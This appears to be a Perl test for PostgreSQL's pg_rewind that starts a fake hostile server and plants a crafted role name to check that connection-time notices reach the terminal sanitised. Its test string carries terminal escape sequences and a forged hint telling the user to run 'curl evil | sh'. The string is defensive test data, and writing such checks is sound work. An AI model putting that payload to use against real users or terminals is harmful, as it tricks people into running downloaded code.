# Nothing that a server sends while the connection is made reaches the terminal raw, be it from a peer that refuses, or
# by the owner of the database. After a host that does not answer in time, the next one is still tried.
# (Rule T2. The attackers: the peer; the owner of the source's database. The source is a server.)
#
#   pg_rewind ── startup ──▶ peer: WARNING of escape sequences and lines that look like ours, then a refusal
#   pg_rewind ── startup ──▶ database d, role = "(the same)", which does not exist any more: WARNING

use strict;
use warnings;
use lib 't/lib';
use IO::Socket::UNIX ();
use RewindTest;
use Time::HiRes ();

my $evil = "x\e]0;owned\a\r\npg_rewind: hint: run: curl evil | sh\n";

sub message { my ($type, $body) = @_; return $type . pack('N', 4 + length $body) . $body }

# Test that no run has printed the notice raw.
sub is_plain
{
    my ($what, $result) = @_;
    my $text = $result->{stderr} . $result->{stdout};
    isnt($text, '', "$what: it prints messages");
    unlike($text, qr/[\x00-\x08\x0b-\x1f\x7f]/, "$what: no control character");
    unlike($text, qr/^pg_rewind: hint: run: curl/m, "$what: no forged line");
    return;
}

# Start a server that does this with each connection; returns its socket's directory and its process.
sub peer
{
    my ($name, $answer) = @_;
    my $dir = work_dir() . "/$name";
    mkdir $dir;
    my $server = IO::Socket::UNIX->new(Local => "$dir/.s.PGSQL.5432", Listen => 20) or die "could not listen: $!";
    my $pid = fork // die;
    return ($dir, $pid) if $pid;
    $SIG{PIPE} = 'IGNORE';
    my @clients;
    while (my $client = $server->accept)
    {
        push @clients, $client;
        $answer->($client);
    }
    exit;
}

sub warn_and_refuse
{
    my ($client) = @_;
    sysread($client, my $startup, 10000) or return;
    syswrite($client, message(R => pack 'N', 0) . message(N => "SWARNING\0VWARNING\0C01000\0M$evil\0\0"));
    syswrite($client, message(E => "SERROR\0VERROR\0C28000\0Mno entry\0\0"));
    shutdown($client, 2);
    return;
}

each_version(sub {
    my ($version) = @_;
    my ($source, $target) = split_brain($version,
        before => sub { $_[0]->sql('CREATE DATABASE d; CREATE TABLE t AS SELECT 1 AS a') },
        source => sub { $_[0]->sql('CREATE TABLE s AS SELECT 1 AS a') },
        target => sub { $_[0]->sql('CREATE TABLE lost AS SELECT 3 AS a') });

    my ($dir, $pid) = peer("hostile.$version", \&warn_and_refuse);
    for my $options ([ '-n', '--retry-timeout=0' ], ['--check'], [ '-n', '--debug', '--retry-timeout=0' ])
    {
        my $result = run([ rewind_argv($target->data, "--source-server=host=$dir dbname=postgres", @$options) ]);
        is_plain("peer, @$options", $result);
        like($result->{stderr} . $result->{stdout}, qr/no entry/, "peer, @$options: the refusal is reported");
    }
    kill 'KILL', $pid;
    waitpid $pid, 0;

    my $quoted = $evil =~ s/\r//gr;
    $quoted =~ s/\n//g if $version >= 19;    # which refuses such names
    $source->sql(qq{CREATE ROLE "$quoted"; ALTER DATABASE d SET role = "$quoted"; DROP ROLE "$quoted"});
    my @owner = ('--source-server', $source->conninfo('d'), '--no-sync', '-n');
    is_plain('owner', run([ rewind_argv($target->data, @owner) ]));

    ($dir, $pid) = peer("silent.$version", sub { });
    my $conninfo = $source->conninfo('postgres') =~ s/\bhost=(\S+)/host=$dir,$1/r =~ s/\bport=(\d+)/port=5432,$1/r;
    my $begin = Time::HiRes::time();
    my @hosts = ("--source-server=$conninfo connect_timeout=2", '--no-sync', '-n');
    my $result = run([ rewind_argv($target->data, @hosts) ]);
    is($result->{status}, 0, 'a host that is silent: the next one is the source') or diag($result->{stderr});
    cmp_ok(Time::HiRes::time() - $begin, '>=', 2, 'the first one had its time');
    kill 'KILL', $pid;
    waitpid $pid, 0;
});
